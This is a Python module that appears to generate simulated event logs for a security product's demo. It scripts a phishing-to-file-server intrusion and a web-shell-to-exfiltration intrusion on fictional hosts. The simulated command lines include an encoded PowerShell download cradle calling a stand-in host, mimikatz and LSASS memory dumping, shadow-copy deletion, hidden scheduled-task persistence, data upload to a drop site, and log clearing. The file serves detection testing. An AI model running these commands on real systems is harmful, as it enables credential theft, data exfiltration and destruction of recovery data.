"""The two attacks of the demo, told act by act. They share no machine, no account and no address.

Phishing: a macro document on NQ-WS-07 starts PowerShell, which fetches an implant; passwords are read from memory; with
the administrator's account the attacker installs a service on NQ-FS-01 and destroys the shadow copies.
Web shell: a page uploaded to NQ-WEB-01 runs commands; a scheduled task keeps the access; data of NQ-DB-01 is collected
and sent away; the Security log is cleared.
"""

import base64
import datetime

from vedette.server.demo.machine import Machine, Process, subject
from vedette.server.demo.world import PORTAL_POOL, SYSTEM, Account, domain_account

SECOND = datetime.timedelta(seconds=1)
MINUTE = datetime.timedelta(minutes=1)

SYSTEM32 = r"C:\Windows\System32"
POWERSHELL = rf"{SYSTEM32}\WindowsPowerShell\v1.0\powershell.exe"

PHISHING_SITE = ("cdn.parcel-notice.example", "203.0.113.77")
CONTROL_SITE = ("sync.parcel-notice.example", "203.0.113.78")
DROP_SITE = ("drop.coldstorage.example", "198.51.100.201")


def phishing(workstation: Machine, file_server: Machine, at: datetime.datetime) -> None:
    """From a document to the file server, in about three hours."""
    implant = _open_document(workstation, at)
    _look_around(implant, at + 11 * MINUTE)
    _dump_credentials(implant, at + 47 * MINUTE)
    administrator = domain_account(workstation.world, "adm.kessler")
    _move_to(file_server, implant, administrator, at + 95 * MINUTE)


def web_shell(web_server: Machine, database_server: Machine, at: datetime.datetime) -> None:
    """From an upload to data sent away, in about two hours."""
    shell = _upload_page(web_server, at)
    _keep_access(web_server, shell, at + 14 * MINUTE)
    _collect(database_server, shell, at + 41 * MINUTE)
    _send_away(shell, at + 78 * MINUTE)
    _clear_log(web_server, at + 101 * MINUTE)


def _open_document(machine: Machine, at: datetime.datetime) -> Process:
    user = machine.record.user
    outlook = machine.explorer.start(at, r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE")
    document = (
        rf"C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q7R2\Customs notice 22914.docm"
    )
    outlook.create_file(at + 40 * SECOND, document)
    word_image = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
    word = outlook.start(at + 44 * SECOND, word_image, f'"{word_image}" /n "{document}"')
    word.load_image(at + 46 * SECOND, r"C:\Program Files\Common Files\Microsoft Shared\VBA\VBA7.1\VBE7.DLL")
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{PHISHING_SITE[0]}/n/a.ps1')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    powershell = word.start(at + 61 * SECOND, POWERSHELL, f"powershell.exe -nop -w hidden -enc {encoded}")
    powershell.resolve(at + 63 * SECOND, *PHISHING_SITE)
    powershell.connect(at + 64 * SECOND, PHISHING_SITE[1], 80, PHISHING_SITE[0])
    image = rf"C:\Users\{user}\AppData\Roaming\SyncHost\synchost.exe"
    powershell.create_file(at + 70 * SECOND, image)
    run_key = rf"HKU\{machine.user.sid}\Software\Microsoft\Windows\CurrentVersion\Run\SyncHost"
    powershell.set_registry(at + 74 * SECOND, run_key, image)
    implant = powershell.start(at + 78 * SECOND, image, f'"{image}" -d', company="")
    for beacon in range(24):
        implant.resolve(at + (2 + 5 * beacon) * MINUTE, *CONTROL_SITE)
        implant.connect(at + (2 + 5 * beacon) * MINUTE + SECOND, CONTROL_SITE[1], 443, CONTROL_SITE[0])
    return implant


def _look_around(implant: Process, at: datetime.datetime) -> None:
    for number, command in enumerate(
        ("whoami /all", 'net group "Domain Admins" /domain', "nltest /domain_trusts", "net view /all")
    ):
        moment = at + number * 25 * SECOND
        shell = implant.start(moment, rf"{SYSTEM32}\cmd.exe", f"cmd.exe /c {command}")
        program = command.split()[0]
        shell.start(moment + SECOND, rf"{SYSTEM32}\{program}.exe", command).end(moment + 2 * SECOND)
        shell.end(moment + 3 * SECOND)


def _dump_credentials(implant: Process, at: datetime.datetime) -> None:
    machine = implant.machine
    folder = rf"C:\Users\{machine.record.user}\AppData\Local\Temp"
    tool = rf"{folder}\mk64.exe"
    implant.create_file(at, tool)
    dumper = implant.start(
        at + 9 * SECOND,
        tool,
        f'"{tool}" "privilege::debug" "sekurlsa::logonpasswords" exit',
        integrity="High",
        company="",
    )
    dumper.open_process(at + 11 * SECOND, machine.lsass, "0x1410")
    dumper.end(at + 19 * SECOND)
    library = rf"{SYSTEM32}\comsvcs.dll"
    rundll = implant.start(
        at + 4 * MINUTE,
        rf"{SYSTEM32}\rundll32.exe",
        rf"rundll32.exe {library}, MiniDump {machine.lsass.pid} {folder}\p.dmp full",
        integrity="High",
    )
    rundll.load_image(at + 4 * MINUTE + SECOND, library)
    rundll.open_process(at + 4 * MINUTE + 2 * SECOND, machine.lsass, "0x1fffff")
    rundll.create_file(at + 4 * MINUTE + 3 * SECOND, rf"{folder}\p.dmp")
    implant.delete_file(at + 9 * MINUTE, tool)


def _move_to(target: Machine, implant: Process, account: Account, at: datetime.datetime) -> None:
    source = implant.machine
    implant.connect(at, target.record.ip, 445, target.host_name)
    explicit = {
        **subject(implant.account),
        "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
        "TargetUserName": account.name,
        "TargetDomainName": account.domain,
        "TargetServerName": target.host_name,
        "TargetInfo": f"cifs/{target.host_name}",
        "ProcessId": hex(implant.pid),
        "ProcessName": implant.image,
        "IpAddress": "-",
        "IpPort": "-",
    }
    source.security(4648, at + SECOND, explicit, task=12544)
    target.logon(at + 2 * SECOND, account, 3, source.record.ip)
    service_image = r"C:\Windows\hqxvtm.exe"
    share = {
        **subject(account),
        "ObjectType": "File",
        "IpAddress": source.record.ip,
        "IpPort": "50122",
        "ShareName": r"\\*\ADMIN$",
        "ShareLocalPath": r"\??\C:\Windows",
        "RelativeTargetName": "hqxvtm.exe",
        "AccessMask": "0x2",
        "AccessList": "%%4417",
    }
    target.security(5145, at + 4 * SECOND, share, task=12811)
    installed = {
        **subject(account),
        "ServiceName": "hqxvtm",
        "ServiceFileName": rf"{service_image} -s",
        "ServiceType": "0x10",
        "ServiceStartType": "3",
        "ServiceAccount": "LocalSystem",
    }
    target.security(4697, at + 7 * SECOND, installed, task=12289)
    service = target.services.start(at + 8 * SECOND, service_image, f"{service_image} -s", account=SYSTEM, company="")
    shell = service.start(at + 40 * SECOND, rf"{SYSTEM32}\cmd.exe", "cmd.exe /c dir D:\\shares /s /b")
    shell.end(at + 52 * SECOND)
    vssadmin = service.start(
        at + 22 * MINUTE, rf"{SYSTEM32}\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", account=SYSTEM
    )
    vssadmin.end(at + 22 * MINUTE + 4 * SECOND)
    service.connect(at + 23 * MINUTE, CONTROL_SITE[1], 443, CONTROL_SITE[0])


def _upload_page(machine: Machine, at: datetime.datetime) -> Process:
    worker = machine.svchost.start(
        at - 3 * MINUTE,
        rf"{SYSTEM32}\inetsrv\w3wp.exe",
        r'c:\windows\system32\inetsrv\w3wp.exe -ap "portal"',
        account=PORTAL_POOL,
        integrity="High",
    )
    worker.create_file(at, r"C:\inetpub\wwwroot\portal\uploads\status.aspx")
    for number, command in enumerate(("whoami", "ipconfig /all", "net user", r"dir C:\inetpub\wwwroot\portal")):
        moment = at + 2 * MINUTE + number * 31 * SECOND
        worker.start(moment, rf"{SYSTEM32}\cmd.exe", f'"cmd.exe" /c {command}').end(moment + SECOND)
    return worker.start(at + 8 * MINUTE, POWERSHELL, "powershell.exe -ep bypass -nop -c -")


def _keep_access(machine: Machine, shell: Process, at: datetime.datetime) -> None:
    script = r"C:\ProgramData\Northquay\svccheck.ps1"
    shell.create_file(at, script)
    name = r"\Microsoft\Windows\Maintenance\SvcCheck"
    action = f"powershell -ep bypass -w hidden -f {script}"
    command = f'schtasks.exe /create /f /tn "{name}" /ru SYSTEM /sc minute /mo 30 /tr "{action}"'
    shell.start(at + 20 * SECOND, rf"{SYSTEM32}\schtasks.exe", command).end(at + 22 * SECOND)
    content = (
        '&lt;?xml version="1.0" encoding="UTF-16"?&gt;&lt;Task version="1.2" '
        'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"&gt;&lt;Actions Context="Author"&gt;&lt;Exec&gt;'
        "&lt;Command&gt;powershell&lt;/Command&gt;"
        f"&lt;Arguments&gt;-ep bypass -w hidden -f {script}&lt;/Arguments&gt;"
        "&lt;/Exec&gt;&lt;/Actions&gt;&lt;/Task&gt;"
    )
    task = {**subject(shell.account), "TaskName": name, "TaskContent": content, "ClientProcessId": str(shell.pid)}
    machine.security(4698, at + 21 * SECOND, task, task=12804)


def _collect(target: Machine, shell: Process, at: datetime.datetime) -> None:
    account = domain_account(target.world, "svc.portal")
    remote = (
        f'wmic /node:{target.record.name} process call create "cmd.exe /c tar -cf D:\\dump\\s.tar D:\\data\\shipments"'
    )
    shell.start(at, rf"{SYSTEM32}\wbem\WMIC.exe", remote).end(at + 5 * SECOND)
    target.logon(at + SECOND, account, 3, shell.machine.record.ip)
    provider = target.svchost.start(
        at + 2 * SECOND, rf"{SYSTEM32}\wbem\WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"
    )
    command = provider.start(
        at + 3 * SECOND,
        rf"{SYSTEM32}\cmd.exe",
        r"cmd.exe /c tar -cf D:\dump\s.tar D:\data\shipments",
        account=account,
    )
    archiver = command.start(at + 4 * SECOND, rf"{SYSTEM32}\tar.exe", r"tar -cf D:\dump\s.tar D:\data\shipments")
    archiver.create_file(at + 9 * SECOND, r"D:\dump\s.tar")
    archiver.end(at + 90 * SECOND)


def _send_away(shell: Process, at: datetime.datetime) -> None:
    tool = r"C:\ProgramData\Northquay\rcl.exe"
    shell.create_file(at, tool)
    source = r"\\NQ-DB-01\d$\dump"
    options = r"--config C:\ProgramData\Northquay\r.conf --transfers 8 --no-check-certificate"
    command = f"{tool} copy {source} remote:nq {options}"
    sender = shell.start(at + 30 * SECOND, tool, command, company="")
    sender.resolve(at + 32 * SECOND, *DROP_SITE)
    for number in range(8):
        sender.connect(at + 33 * SECOND + number * 45 * SECOND, DROP_SITE[1], 443, DROP_SITE[0])
    sender.end(at + 9 * MINUTE)


def _clear_log(machine: Machine, at: datetime.datetime) -> None:
    account = domain_account(machine.world, "svc.portal")
    message = (
        "The audit log was cleared.\r\nSubject:\r\n"
        f"\tSecurity ID:\t{account.sid}\r\n\tAccount Name:\t{account.name}\r\n"
        f"\tDomain Name:\t{account.domain}\r\n\tLogon ID:\t{account.logon_id}"
    )
    machine.security(1102, at, {"Message": message, "SourceName": "Microsoft-Windows-Eventlog"}, task=104)
